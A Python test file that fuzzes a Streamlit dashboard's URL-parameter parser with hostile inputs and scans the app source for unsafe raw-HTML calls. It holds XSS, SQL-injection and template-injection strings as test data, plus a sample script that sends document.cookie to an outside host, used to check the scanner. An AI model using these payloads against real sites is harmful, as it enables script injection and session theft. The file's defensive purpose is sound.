"""URL state under generated hostile input: ``dashboard.state.parse`` for every page's spec.

Hypothesis draws query-parameter dicts mixing real parameter names with unknown ones and
values from every family a link can carry (good and garbage dates, reversed ranges, known and
unknown codes, huge values, script tags, any Unicode, control characters). For each dict and
every spec in ``dashboard.views.ALL``, ``parse`` must not raise, must return a state inside the
spec, must give a notice whenever a value was unusable (as judged by ``unusable`` below, which
reads the URL contract in README and views.py, not the parser), and ``to_query`` must
round-trip. Then a few hostile links through AppTest, and a scan for raw HTML in the source.
"""

from __future__ import annotations

import ast
import hashlib
import re
import unicodedata
from collections.abc import Mapping
from datetime import date, timedelta

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from streamlit.testing.v1 import AppTest

from dashboard.datasets.core import AS_OF, CHECKED, FIRST_DAY
from dashboard.paths import PROJECT_DIR
from dashboard.state import (
    FALSE_WORDS,
    FRAMEWORK_PARAMS,
    LAST_BRIEFING_DAY,
    MAX_FOOTER_LENGTH,
    MAX_SEARCH_LENGTH,
    MAX_TALK_LENGTH,
    MAX_VALUE_LENGTH,
    TALK_PREFIX,
    TRUE_WORDS,
    WINDOW_PREFIX,
    ViewSpec,
    ViewState,
    parse,
    to_query,
)
from dashboard.views import ALL

KNOWN_NAMES = sorted(
    {name for spec in ALL for name in spec.params()} | set(FRAMEWORK_PARAMS) | {"overlay"}
)
ALL_CODES = sorted(
    {code for spec in ALL for f in spec.filters for code in f.codes}
    | {code for spec in ALL for code in spec.overlays}
    | {key for spec in ALL for key in spec.catalogue}
)
ISO_DAY = re.compile(r"\d{4}-\d{2}-\d{2}", re.ASCII)
HOSTILE = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "![x](http://evil.example/p.png)",
    "[click](https://evil.example/)",
    "{{7*7}}",
    "'; DROP TABLE x; --",
    "%00%0a%0d",
    "\u202e\u200b\ufeff",
    "\x00\x1b[31m\x7f",
    "ＥＵ",
    "制裁",
]

# --- strategies ------------------------------------------------------------------------------

dates = st.dates(min_value=date(1, 1, 1), max_value=date(9999, 12, 31))
near_dates = st.dates(min_value=date(2013, 1, 1), max_value=date(2027, 1, 1))
date_text = st.one_of(
    near_dates.map(date.isoformat),
    dates.map(date.isoformat),
    st.sampled_from(
        [
            "2025-99-99",
            "2025-02-30",
            "2025-13-01",
            "0000-00-00",
            "2025/01/01",
            "01-01-2025",
            "2025-1-1",
            "20250101",
            "yesterday",
            "",
            " ",
            "２０２５-０１-０１",
            "2025-01-01T00:00",
            "-2025-01-01",
            "2025-W01-1",
        ]
    ),
    st.builds(
        lambda d, pad: f"{pad}{d.isoformat()}{pad}", near_dates, st.sampled_from([" ", "\t"])
    ),
)
code_lists = st.lists(st.one_of(st.sampled_from(ALL_CODES), st.text(max_size=8)), max_size=6).map(
    lambda codes: ",".join(codes)
)
any_text = st.text(
    alphabet=st.characters(min_codepoint=0, max_codepoint=0x10FFFF, exclude_categories=("Cs",)),
    max_size=60,
)
values = st.one_of(
    date_text,
    code_lists,
    any_text,
    st.sampled_from(HOSTILE),
    st.sampled_from(["ja", "en", "EN", "fr", "1", "0", "yes", "off", "maybe", "2", "-1"]),
    st.sampled_from(["chapter", "latest", " LATEST ", "Chapter", "now", "2026"]),
    st.integers(min_value=-(10**30), max_value=10**30).map(str),
    st.builds(lambda ch, n: ch * n, st.sampled_from(["a", "漢", "<", ","]), st.integers(90, 2600)),
)
names = st.one_of(st.sampled_from(KNOWN_NAMES), any_text, st.sampled_from(HOSTILE))
param_dicts = st.dictionaries(names, values, max_size=8)


def reversed_ranges() -> st.SearchStrategy[dict[str, str]]:
    """A from after the to (both valid dates), possibly with other parameters."""
    return st.tuples(near_dates, near_dates, param_dicts).map(
        lambda t: {**t[2], "from": max(t[0], t[1]).isoformat(), "to": min(t[0], t[1]).isoformat()}
    )


queries = st.one_of(param_dicts, reversed_ranges())

# --- the contract, written independently of the parser ---------------------------------------


def _codes(value: str) -> list[str]:
    return [code.strip() for code in value.split(",") if code.strip()]


def _day(value: str) -> date | None:
    text = value.strip()
    if not ISO_DAY.fullmatch(text):
        return None
    try:
        return date.fromisoformat(text)
    except ValueError:
        return None


def unusable(params: Mapping[str, str], spec: ViewSpec) -> list[str]:
    """The parameters a page cannot use exactly as given (each deserves a notice)."""
    bad = [
        name
        for name, value in params.items()
        if name not in FRAMEWORK_PARAMS and _bad_value(name, value, spec, _latest(params), params)
    ]
    first, last = _day(params.get("from", "")), _day(params.get("to", ""))
    if "from" not in bad and "to" not in bad and first and last and first > last:
        bad.append("from>to")
    return bad


def _latest(params: Mapping[str, str]) -> bool:
    """Whether the link asks for the follow-up layer (usably)."""
    value = params.get("asof", "")
    return len(value) <= MAX_VALUE_LENGTH and value.strip().lower() == "latest"


def _chosen(params: Mapping[str, str], spec: ViewSpec, latest: bool) -> tuple[str, ...]:
    """The slide list a link asks for, as far as it is usable."""
    raw = params.get("slides", "")
    if "slides" not in spec.params() or len(raw) > MAX_VALUE_LENGTH:
        return ()
    keys = tuple(dict.fromkeys(key for key in _codes(raw) if key in spec.catalogue))
    return keys if spec.deck_for(latest, keys) else ()


def _bad_value(
    name: str,
    value: str,
    spec: ViewSpec,
    latest: bool = False,
    params: Mapping[str, str] | None = None,
) -> bool:
    if name not in spec.params() or len(value) > MAX_VALUE_LENGTH:
        return True
    filters = {f.param: f.codes for f in spec.filters}
    word = value.strip()
    if name == "lang":
        return value not in ("ja", "en")
    if name in ("from", "to"):
        day = _day(value)
        hi = CHECKED if latest and spec.lo < spec.hi else spec.hi
        return day is None or not spec.lo <= day <= hi
    if name == "asof":
        return word.lower() not in ("chapter", "latest")
    if name == "since":
        day = _day(value)
        last = CHECKED if latest else AS_OF
        return bool(word) and (day is None or not FIRST_DAY <= day <= last)
    if name in filters:
        return any(code not in filters[name] for code in _codes(value))
    if name == "overlay":
        return any(code not in spec.overlays for code in _codes(value))
    if name == "q":
        return len(_printable(value).strip()) > MAX_SEARCH_LENGTH
    if name in ("present", "japan"):
        return word.lower() not in TRUE_WORDS | FALSE_WORDS
    if name == "slide":
        top = spec.slide_count(latest, _chosen(params or {}, spec, latest))
        return not (word.isascii() and word.isdigit() and 1 <= int(word) <= top)
    if name == "mine":
        return word.lower() not in TRUE_WORDS | FALSE_WORDS
    if name == "date":
        day = _day(value)
        return bool(word) and (day is None or not FIRST_DAY <= day <= LAST_BRIEFING_DAY)
    if name == "footer":
        return len(_printable(value).strip()) > MAX_FOOTER_LENGTH
    if name == "slides":
        keys = _codes(value)
        return (
            any(key not in spec.catalogue for key in keys)
            or any(key in spec.follow_up_only for key in keys if not latest)
            or (
                not spec.deck_for(latest, tuple(k for k in keys if k in spec.catalogue))
                and bool(value.strip(", "))
            )
        )
    if name.startswith(WINDOW_PREFIX):
        first, sep, last = word.partition("..")
        hi = CHECKED if latest else AS_OF
        days = (_day(first), _day(last)) if sep else (None, None)
        return bool(word) and (
            not sep or any(day is None or not FIRST_DAY <= day <= hi for day in days)
        )
    if name.startswith(TALK_PREFIX):
        lines = "\n".join(_printable(line).strip() for line in value.splitlines()).strip()
        return len(lines) > MAX_TALK_LENGTH
    raise AssertionError(f"parameter {name} of {spec.page} is not covered by this test")


def _printable(value: str) -> str:
    return "".join(ch for ch in value if unicodedata.category(ch)[0] != "C")


def assert_valid(state: ViewState, spec: ViewSpec) -> None:
    assert spec.lo <= state.start <= state.end <= spec.upper(state.follow_up)
    assert state.end <= (CHECKED if state.follow_up else AS_OF)
    if state.since is not None:
        assert FIRST_DAY <= state.since <= (CHECKED if state.follow_up else AS_OF)
    assert state.lang in ("ja", "en")
    assert len(state.query) <= MAX_SEARCH_LENGTH
    assert state.query == state.query.strip()
    assert all(unicodedata.category(ch)[0] != "C" for ch in state.query)
    assert set(state.selected) == {f.param for f in spec.filters}
    for filter_spec in spec.filters:
        codes = state.codes(filter_spec.param)
        assert set(codes) <= set(filter_spec.codes)
        assert len(codes) == len(set(codes))
    assert set(state.overlays) <= set(spec.overlays)
    assert 1 <= state.slide <= max(spec.slide_count(state.follow_up, state.deck), 1)
    assert set(state.deck) <= set(spec.catalogue)
    assert len(state.footer) <= MAX_FOOTER_LENGTH
    assert all(len(text) <= MAX_TALK_LENGTH for text in state.talk.values())
    for start, end in state.windows.values():
        assert FIRST_DAY <= start <= end <= (CHECKED if state.follow_up else AS_OF)
    assert isinstance(state.present, bool)


# --- properties ------------------------------------------------------------------------------


@settings(
    max_examples=600,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)
@given(params=queries)
@example(params={"from": "2025-99-99", "q": "<script>alert(1)</script>"})
@example(params={"from": "2025-12-31", "to": "2022-01-01"})
@example(params={"jur": "EU,Mars", "lang": "xx", "slide": "9" * 50})
@example(params={"q": "x" * 101})
@example(params={"q": "x" * (MAX_VALUE_LENGTH + 1)})
@example(params={"jur": ""})
@example(params={"embed": "true"})
@example(params={"slides": "title,gdp_growth,nope", "slide": "3"})
@example(params={"slides": "forecasts", "w.gdp_growth": "2021-01-01..2099-01-01"})
@example(params={"tp.gdp_growth": "a\nb" * 400, "footer": "取扱注意" * 20, "date": "2026-12-03"})
@example(params={"w.gdp_growth": "2024-12-31..2021-01-01", "mine": "maybe"})
def test_parse_is_total_valid_and_noticed(params: dict[str, str]) -> None:
    for spec in ALL:
        state, notices = parse(params, spec)
        assert_valid(state, spec)
        bad = unusable(params, spec)
        if bad:
            assert notices, f"{spec.page}: unusable {bad} in {params!r} gave no notice"
        else:
            assert notices == [], f"{spec.page}: notices {notices} for usable {params!r}"
        for notice in notices:
            assert len(notice.value) <= 40 and len(notice.param) <= 40
            assert all(unicodedata.category(ch)[0] != "C" for ch in notice.value + notice.param)

        written = to_query(state, spec)
        again, again_notices = parse(written, spec)
        assert again_notices == []
        assert to_query(again, spec) == written
        assert (again.start, again.end, again.lang, again.query) == (
            state.start,
            state.end,
            state.lang,
            state.query,
        )
        assert (again.follow_up, again.since) == (state.follow_up, state.since)
        briefing = ("deck", "mine", "windows", "talk", "footer", "briefing_date")
        assert [getattr(again, n) for n in briefing] == [getattr(state, n) for n in briefing]
        for filter_spec in spec.filters:
            assert set(again.codes(filter_spec.param)) == set(state.codes(filter_spec.param))


@settings(max_examples=200, deadline=None)
@given(
    start=near_dates,
    length=st.integers(0, 4000),
    lang=st.sampled_from(["ja", "en"]),
    picks=st.lists(st.booleans(), min_size=20, max_size=20),
    query=any_text,
)
def test_any_valid_state_round_trips(
    start: date, length: int, lang: str, picks: list[bool], query: str
) -> None:
    """States built inside a spec survive to_query -> parse -> to_query unchanged."""
    for spec in ALL:
        lo = min(max(start, spec.lo), spec.hi)
        hi = min(lo + timedelta(days=length), spec.hi)
        flags = iter(picks * 3)
        selected = {
            f.param: tuple(code for code in f.codes if next(flags, True)) for f in spec.filters
        }
        cleaned = _printable(query).strip()[:MAX_SEARCH_LENGTH].strip() if spec.search else ""
        state = ViewState(lang=lang, start=lo, end=hi, selected=selected, query=cleaned)  # type: ignore[arg-type]
        written = to_query(state, spec)
        again, notices = parse(written, spec)
        assert notices == [], (spec.page, written)
        assert to_query(again, spec) == written


def test_week_dates_are_noticed() -> None:
    """Links take YYYY-MM-DD only; other ISO 8601 forms such as week dates get a notice."""
    spec = next(spec for spec in ALL if spec.page == "sanctions")
    state, notices = parse({"from": "2025-W01-1"}, spec)
    assert notices, state


# --- hostile links through the app (AppTest) --------------------------------------------------

SCRIPT = "<script>alert(1)</script>"


def open_with(page_path: str | None, params: dict[str, str]) -> AppTest:
    """Open a page as a shared link does: the router first, then the page with the URL."""
    at = AppTest.from_file(str(PROJECT_DIR / "app.py"), default_timeout=120)
    if page_path is None:
        at.query_params.update(params)
        return at.run()
    at.run()
    at.query_params.clear()
    at.query_params.update(params)
    at.switch_page(page_path)
    return at.run()


@pytest.mark.parametrize(
    ("page_path", "params", "shown"),
    [
        (None, {"q": SCRIPT, "from": "2025-99-99"}, "from=2025-99-99"),
        (
            "pages/sanctions.py",
            {"q": SCRIPT, "to": "<img src=x onerror=alert(1)>", "jur": "EU,<b>x</b>"},
            "<img src=x onerror=alert(1)>",
        ),
        ("pages/war_economy.py", {"overlay": "sanctions,\x00evil", "from": "1900-01-01"}, "1900"),
    ],
)
def test_hostile_link_in_apptest_gives_notice_not_exception(
    page_path: str | None, params: dict[str, str], shown: str
) -> None:
    at = open_with(page_path, params)
    assert not at.exception, [e.message for e in at.exception]
    assert not at.error, [e.value for e in at.error]
    # As the reader sees them: Markdown escapes and code-span backticks removed.
    warnings = [re.sub(r"\\(.)", r"\1", w.value).replace("`", "") for w in at.warning]
    assert any(shown in text for text in warnings), warnings
    if "q" in params:
        values = [box.value for box in at.text_input]
        assert SCRIPT in values, values  # the search box holds the text as typed


# --- no raw HTML from data or parameters -----------------------------------------------------

RAW_HTML_CALLS = {"html"}  # st.html, components.html, components.v1.html
SOURCES = [
    PROJECT_DIR / "app.py",
    *sorted((PROJECT_DIR / "pages").glob("*.py")),
    *sorted((PROJECT_DIR / "src").rglob("*.py")),
]


def _constants(tree: ast.Module) -> dict[str, str]:
    """Module-level names bound once to a plain string literal."""
    bound: dict[str, list[ast.expr]] = {}
    for node in tree.body:
        if isinstance(node, ast.Assign | ast.AnnAssign):
            targets = node.targets if isinstance(node, ast.Assign) else [node.target]
            for target in targets:
                if isinstance(target, ast.Name) and node.value is not None:
                    bound.setdefault(target.id, []).append(node.value)
    return {
        name: values[0].value
        for name, values in bound.items()
        if len(values) == 1
        and isinstance(values[0], ast.Constant)
        and isinstance(values[0].value, str)
    }


LANG_SCRIPT = re.compile(r"<script>document\.documentElement\.lang = '[a-z]{2}';</script>")
#: Other constant scripts, each read and approved as it stands (SHA-256 of its stripped text):
#: a change to one fails this test until it is read again. Enter in a date field applies it.
REVIEWED_SCRIPTS = frozenset({"907b59f151dfa7a5d8d511293db9f978f8e28153fbe01f2085d06acaa9cd4b43"})


def _is_constant_css(arg: ast.expr, constants: dict[str, str]) -> bool:
    """A constant stylesheet, a constant language-declaring script, a reviewed constant script
    (``REVIEWED_SCRIPTS``), or a choice between two such constants (``A if cond else B``):
    nothing computed from data reaches the page."""
    if isinstance(arg, ast.IfExp):
        return _is_constant_css(arg.body, constants) and _is_constant_css(arg.orelse, constants)
    text = constants.get(arg.id) if isinstance(arg, ast.Name) else None
    if text is None:
        return False
    stripped = text.strip()
    if LANG_SCRIPT.fullmatch(stripped):
        return True
    if hashlib.sha256(stripped.encode()).hexdigest() in REVIEWED_SCRIPTS:
        return True
    return stripped.startswith("<style>") and stripped.endswith("</style>") and "{{" not in text


def raw_html_uses(source: str) -> list[tuple[int, str, bool]]:
    """(line, what, allowed) for every raw-HTML call in the Python ``source``."""
    tree = ast.parse(source)
    constants = _constants(tree)
    found = []
    for node in ast.walk(tree):
        if not isinstance(node, ast.Call):
            continue
        name = node.func.attr if isinstance(node.func, ast.Attribute) else None
        unsafe = any(
            kw.arg == "unsafe_allow_html"
            and not (isinstance(kw.value, ast.Constant) and kw.value.value is False)
            for kw in node.keywords
        )
        if unsafe or name in RAW_HTML_CALLS:
            first = node.args[0] if node.args else None
            allowed = (
                first is not None and len(node.args) == 1 and _is_constant_css(first, constants)
            )
            found.append((node.lineno, ast.unparse(node)[:80], allowed))
    return found


#: The scripts of the app's own components (presentation mode's keys, the copy-link button),
#: each read and approved as it stands: a change to one fails the test until it is read again.
REVIEWED_COMPONENTS = frozenset(
    {
        "0c482cd9567b39d46b833f32f7e79189f30baab44f5fd0d56050e27be5eb4191",  # presentation keys
        "d9fccca794d887915f3cd0a3950b93917ab635d5df1c4bd692a236224329b214",
        "16bad9a9223879f0784a37de6805bfc2119c2b21c74389023884ebed7b267215",  # viewport width
    }
)


def component_uses(source: str) -> list[tuple[int, str, bool]]:
    """(line, what, allowed) for every ``component(...)`` registration: allowed when its html,
    css and js are module constants and its script is a reviewed one (data reaches it only
    through the mount's ``data=``, as JSON, never spliced into the markup or the script)."""
    tree = ast.parse(source)
    constants = _constants(tree)
    found = []
    for node in ast.walk(tree):
        if not (isinstance(node, ast.Call) and isinstance(node.func, ast.Name)):
            continue
        if node.func.id != "component":
            continue
        parts = {kw.arg: kw.value for kw in node.keywords}
        constant = all(
            isinstance(value, ast.Name) and value.id in constants
            for name, value in parts.items()
            if name in ("html", "css", "js")
        )
        script = parts.get("js")
        reviewed = (
            isinstance(script, ast.Name)
            and script.id in constants
            and hashlib.sha256(constants[script.id].strip().encode()).hexdigest()
            in REVIEWED_COMPONENTS
        )
        found.append((node.lineno, ast.unparse(node)[:80], constant and reviewed))
    return found


def test_raw_html_only_for_constant_stylesheets() -> None:
    offenders = []
    for path in SOURCES:
        source = path.read_text(encoding="utf-8")
        for line, what, allowed in raw_html_uses(source) + component_uses(source):
            if not allowed:
                offenders.append(f"{path.relative_to(PROJECT_DIR)}:{line}: {what}")
    assert not offenders, offenders
    # And no other door to raw HTML: v1 components or iframes built from strings.
    text = "\n".join(path.read_text(encoding="utf-8") for path in SOURCES)
    assert "components.v1" not in text and "components.html" not in text
    assert text.count("streamlit.components.v2 import component") == len(
        [use for path in SOURCES for use in component_uses(path.read_text(encoding="utf-8"))]
    )


def test_raw_html_scan_catches_data_in_html() -> None:
    """The scan above is not blind: it flags the patterns it exists to forbid."""
    source = (
        'CSS = "<style>p {}</style>"\n'
        "st.markdown(CSS, unsafe_allow_html=True)\n"
        "st.markdown(f'<b>{value}</b>', unsafe_allow_html=True)\n"
        "st.html(row['title'])\n"
        "st.markdown(text, unsafe_allow_html=flag)\n"
        "JA = \"<script>document.documentElement.lang = 'ja';</script>\"\n"
        "EVIL = \"<script>fetch('https://example.org/' + document.cookie);</script>\"\n"
        "st.html(JA if x else CSS, unsafe_allow_javascript=True)\n"
        "st.html(JA if x else EVIL, unsafe_allow_javascript=True)\n"
        "st.html(JA if x else row['script'], unsafe_allow_javascript=True)\n"
    )
    verdicts = [allowed for _, _, allowed in raw_html_uses(source)]
    assert verdicts == [True, False, False, False, True, False, False]
